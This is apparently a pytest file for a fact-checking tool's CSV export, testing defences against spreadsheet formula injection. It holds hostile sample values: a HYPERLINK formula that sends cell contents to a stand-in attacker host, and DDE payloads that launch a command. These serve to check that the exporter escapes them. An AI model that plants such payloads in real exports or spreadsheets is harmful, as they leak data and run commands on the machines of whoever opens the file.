"""Hostile input, hostile servers, spreadsheets and shared machines (issue 15): each test
reproduces an attack and checks that it is refused or survived."""

import csv
import io
import json

import pytest

from factcheck import db as store
from factcheck.models import Article, Claim, Spans

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
# (field, hostile value) of the article and its one claim
HOSTILE_ARTICLE = {"title": FORMULA, "outlet": "+cmd|' /C calc'!A0", "url": "https://news.example.org/a"}
HOSTILE_CLAIM = {"source": "@SUM(1+1)*cmd|' /C calc'!A0", "speaker": "\tTabbed", "cue": "-said",
                 "content": "\r=1+2 people were held", "sentence": "-1+1 said the ministry."}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_db(path) -> str:
    """A database with an article and a claim whose every text field would run as a formula."""
    text = "Ministry: people were held at the camps, officials said on Monday."
    db = store.open_db(str(path))
    article = Article(id="h1", text=text, published="2024-05-01", **HOSTILE_ARTICLE)
    claim = Claim(id="c-h1", article="h1", source_id="s-h1", source_kind="government", stance="asserts",
                  quote="indirect", spans=Spans(source=[[0, 8]], cue=[[55, 59]], content=[[10, 39]]),
                  **HOSTILE_CLAIM)
    store.save_article(db, article, [claim])
    store.save_verdict(db, "c-h1", "=False", note="+see the report", url="https://check.example.org/1")
    db.conn.close()
    return str(path)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("args", [["articles", "--csv"], ["claims", "--csv"], ["sources", "--csv"],
                                  ["verdicts", "--csv"], ["export", "--format", "csv"]])
def test_csv_cells_never_start_a_formula(invoke, runner, tmp_path, args):
    from factcheck.cli import app

    path = hostile_db(tmp_path / "hostile.db")
    result = runner.invoke(app, [*args, "--db", path])
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert len(rows) >= 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (args, cell)
    found = {cell for row in rows for cell in row}
    expected = {"articles": ["'" + FORMULA, "'" + HOSTILE_ARTICLE["outlet"]],
                "claims": ["'" + HOSTILE_CLAIM["source"], "'" + HOSTILE_CLAIM["cue"], "'" + HOSTILE_CLAIM["content"]],
                "sources": ["'" + HOSTILE_CLAIM["source"]],
                "verdicts": ["'=False", "'+see the report"],
                "export": ["'" + FORMULA, "'" + HOSTILE_CLAIM["speaker"], "'" + HOSTILE_CLAIM["sentence"], "'=False"]}
    for value in expected[args[0]]:
        assert value in found, (args, value)


def test_csv_keeps_numbers_and_plain_text_as_they_are():
    from factcheck.render import to_csv

    rows = cells(to_csv([{"score": -0.5, "n": 3, "text": "plain", "mid": "a=b", "spans": {"x": [[1, 2]]}}]))
    assert rows[1] == ["-0.5", "3", "plain", "a=b", '{"x": [[1, 2]]}']
